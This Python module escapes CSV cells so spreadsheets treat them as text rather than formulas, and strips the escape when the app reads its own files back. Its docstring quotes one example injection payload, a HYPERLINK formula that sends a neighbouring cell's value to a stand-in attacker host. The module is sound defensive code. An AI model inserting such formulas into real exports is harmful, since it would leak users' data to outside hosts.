"""CSV cells a spreadsheet cannot run: the app's files neutralise formulas, and read them back.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is taken as a
formula by Excel, LibreOffice and Google Sheets when the file is opened: a SKU such as
``=HYPERLINK("http://evil/"&A1,"x")`` would become a live link, or worse. Following OWASP's rule
("CSV Injection"), :func:`escape_cell` puts a single quote ``'`` in front of such a cell, so that
the spreadsheet shows it as text; :func:`unescape_cell` removes that quote again when the app reads
its own file back, so the value is the same as before (``unescape_cell(escape_cell(s)) == s`` for
every string).

* **Plain numbers are left as they are.** ``-3`` or ``+12.5`` is a number to a spreadsheet, not a
  formula: nothing in it can run, and quoting it would turn a stock column into text that no longer
  sums or sorts. Only a cell that is a plain decimal number (ASCII digits, an optional sign and an
  optional fraction) escapes the rule; ``-1+2`` or ``-1e5`` are quoted.
* **A cell that already starts with a quote is quoted too** (``'abc`` is written ``''abc``), so
  that reading back cannot mistake it for an escaped cell.
* **Reading back is lenient and narrow:** a leading quote is removed only when what follows starts
  with one of the characters above or with a quote, which is exactly what :func:`escape_cell`
  writes (and what tools that quote every such cell, numbers included, write: ``'-3`` reads
  as ``-3``). A SKU typed by hand as ``'abc`` is kept as it is.

The rule protects against formulas at the start of a cell; :func:`csv_text` also keeps a formula
from starting a new cell or row: it quotes every cell that holds a comma, a quote, a carriage
return or a line feed. (``csv.writer`` quotes only the characters of its line terminator: with
``"\n"`` it left ``"\r=…"`` bare, and a spreadsheet starts a new row at that ``"\r"``.)
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

__all__ = ["csv_text", "escape_cell", "escape_row", "unescape_cell"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def escape_cell(value: str) -> str:
    """``value`` as a cell no spreadsheet runs as a formula (see the module's rule)."""
    if value.startswith(QUOTE) or (value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value)):
        return QUOTE + value
    return value


def unescape_cell(cell: str) -> str:
    """The value :func:`escape_cell` was given, from the cell it wrote; any other cell as it is."""
    if cell.startswith(QUOTE) and cell[1:].startswith((*FORMULA_STARTS, QUOTE)):
        return cell[1:]
    return cell


def escape_row(values: Iterable[object]) -> list[object]:
    """A row for ``csv.writer``: text escaped; numbers (``int``, ``float``) cannot be formulas and
    are written as they are."""
    return [escape_cell(v) if isinstance(v, str) else v for v in values]


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    """The rows as CSV text, each cell escaped, lines ending in ``"\r\n"`` (RFC 4180; the writer
    then quotes a cell holding either character). Write it as bytes, or with ``newline=""``, so
    that Windows does not turn ``"\n"`` into ``"\r\n"`` inside a quoted cell."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerows(escape_row(row) for row in rows)
    return buffer.getvalue()
